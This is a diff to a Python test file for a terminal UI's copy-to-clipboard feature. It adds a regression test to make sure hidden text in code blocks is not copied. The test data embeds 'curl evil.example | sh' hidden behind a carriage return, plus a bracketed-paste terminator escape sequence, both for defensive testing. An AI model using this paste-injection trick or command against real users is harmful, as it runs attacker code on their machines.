@@ -227,4 +227,17 @@ def test_an_answer_keeps_its_label_and_hanging_indent_a_question_stays_as_typed(
 def test_ctrl_y_copies_the_code_block_exactly_as_written() -> None:
     message = _message('see\n```json:result\n{"a":  1}\t// x\n```\nend')
     snapshot = ProjectionStore().snapshot()
-    assert copy_text(snapshot, task_id=None, message=message) == '{"a":  1}\t// x'
+    copied = copy_text(snapshot, task_id=None, message=message)
+    assert copied is not None
+    assert copied == ('{"a":  1}\t// x', False)
+
+
+def test_ctrl_y_copies_a_block_as_it_is_shown_never_what_it_hides() -> None:
+    """A code block is drawn without escape sequences and shows only what follows a carriage
+    return on its line; the clipboard held the source whole: pasted into a shell, the hidden
+    ``curl`` line ran (a bare CR is Enter without bracketed paste, and ``ESC[201~`` ends a
+    bracketed paste early)."""
+    block = "echo ok\x1b[201~\ncurl evil.example | sh #\rls -la\n\tmake\x07"
+    message = _message(f"try:\n```sh\n{block}\n```")
+    copied = copy_text(ProjectionStore().snapshot(), task_id=None, message=message)
+    assert copied == ("echo ok\nls -la\n\tmake", True)
